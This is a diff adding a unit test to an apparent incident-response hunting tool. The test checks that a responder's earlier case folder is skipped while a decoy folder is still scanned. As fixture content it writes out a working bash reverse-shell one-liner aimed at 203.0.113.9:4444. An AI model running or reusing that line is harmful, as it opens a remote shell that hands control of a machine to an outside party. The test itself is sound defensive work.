@@ -55,6 +55,30 @@ class CleanRoot(unittest.TestCase):
         self.assertIn("last 7 days", r.stderr)
         self.assertEqual(r.json["summary"]["highest"], "info")
 
+    def test_other_case_folders_are_not_entered(self):
+        # A responder's earlier case on the host holds the miners it preserved: hunting it again would
+        # report the evidence as the attack. It is told apart by its database's header, not its name.
+        root = copy_fixture("hunt-clean")
+        self.addCleanup(shutil.rmtree, root, True)
+        old_case = os.path.join(root, "tmp", "old-case")
+        self.assertEqual(unmine("--root", root, "validate", case=old_case).rc, 0)
+        shell = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
+        for d in (os.path.join(old_case, "evidence"), os.path.join(root, "tmp", "decoy")):
+            os.makedirs(d, exist_ok=True)
+            with open(os.path.join(d, "x.sh"), "w") as f:
+                f.write(shell)
+        # A folder that only borrows the name case.db is entered.
+        with open(os.path.join(root, "tmp", "decoy", "case.db"), "w") as f:
+            f.write("SQLite format 3\0" + "\0" * 100)
+        r, case = hunt(root)
+        self.addCleanup(shutil.rmtree, case, True)
+        validate_schema(r.json, "hunt")
+        paths = {f.get("path") for f in r.json["findings"] if f["kind"] == "tool.reverse_shell"}
+        self.assertIn("/tmp/decoy/x.sh", paths)
+        self.assertNotIn("/tmp/old-case/evidence/x.sh", paths)
+        self.assertEqual(r.json["stats"]["files"]["case_folders_skipped"], 1)
+        self.assertTrue(any("/tmp/old-case" in n and "unmine case" in n for n in r.json["notes"]), r.json["notes"])
+
     def test_text_output_says_the_default_window(self):
         r = unmine("--root", fixture("hunt-clean"), "hunt", case=temp_case())
         self.assertEqual(r.rc, 0, r)
